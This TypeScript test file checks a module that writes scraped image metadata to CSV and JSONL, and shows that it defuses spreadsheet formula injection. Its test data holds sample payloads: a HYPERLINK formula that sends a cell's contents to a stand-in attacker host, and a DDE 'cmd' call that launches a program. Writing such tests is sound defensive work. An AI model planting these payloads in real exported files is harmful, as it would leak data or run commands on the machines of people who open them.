import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { metadataCsv, metadataJsonl, metadataRow, type MetadataRow } from './metadata';

const facts = {
  width: 320,
  height: 180,
  bytes: 1234,
  sha256: 'ab'.repeat(32),
  phash: '0f'.repeat(8),
};
const rows: MetadataRow[] = [
  metadataRow(
    {
      file_name: 'Mr._Kettle/Episode_1/7400000.jpg',
      id: 7_400_000,
      kind: 'anime',
      work_id: 10690,
      work_title: 'Mr. Kettle, the "Brave"\nPart 2',
      episode_id: 10691,
      episode_title: 'Episode 1, "Steam"',
      position: 1,
      source_url: 'https://fancaps.example/anime/picture.php?/7400000',
    },
    facts,
  ),
  metadataRow(
    {
      file_name: '小水壶/第2集/7400001.jpg',
      id: 7_400_001,
      kind: 'anime',
      work_id: 10690,
      work_title: '小水壶',
      episode_id: 10692,
      episode_title: 'plain\r\nline',
      position: 2,
      source_url: 'https://fancaps.example/anime/picture.php?/7400001',
    },
    facts,
  ),
];

describe('metadata files', () => {
  it('a CSV parser reads back, row by row, what metadata.jsonl holds, commas, quotes and line breaks included', () => {
    const csv = metadataCsv(rows).toString('utf8');
    expect(csv.startsWith('\ufeff')).toBe(true);
    const parsed = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
    const jsonl = metadataJsonl(rows)
      .toString('utf8')
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as MetadataRow);
    expect(jsonl).toEqual(rows);
    expect(parsed).toHaveLength(jsonl.length);
    for (const [i, row] of jsonl.entries())
      expect(parsed[i]).toEqual(
        Object.fromEntries(Object.entries(row).map(([key, value]) => [key, String(value)])),
      );
  });
});

describe('metadata.csv against formula injection', () => {
  const hostile = [
    '=HYPERLINK("http://evil.example/?x="&A2,"open")',
    "+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(A1)',
    '\tTab',
    '\rReturn',
  ];

  it('a cell that a spreadsheet would run as a formula starts with a quote mark instead', () => {
    const titled = hostile.map((title, i) =>
      metadataRow({ ...rows[0]!, id: i, work_title: title, episode_title: title }, facts),
    );
    const csv = metadataCsv(titled).toString('utf8');
    const parsed = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
    expect(parsed.map((row) => row.work_title)).toEqual(hostile.map((title) => `'${title}`));
    expect(parsed.map((row) => row.episode_title)).toEqual(hostile.map((title) => `'${title}`));
    // Every other cell, and metadata.jsonl, keep their text as it was.
    expect(parsed.map((row) => row.id)).toEqual(hostile.map((_, i) => String(i)));
    expect(metadataJsonl(titled).toString('utf8')).toContain(JSON.stringify(hostile[0]));
  });

  it('leaves ordinary titles alone, a dash or sign inside a title included', () => {
    const csv = metadataCsv([
      metadataRow({ ...rows[0]!, work_title: 'Re:Zero - Season 2', episode_title: 'A+B=C' }, facts),
    ]).toString('utf8');
    const [row] = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
    expect(row).toMatchObject({ work_title: 'Re:Zero - Season 2', episode_title: 'A+B=C' });
  });
});
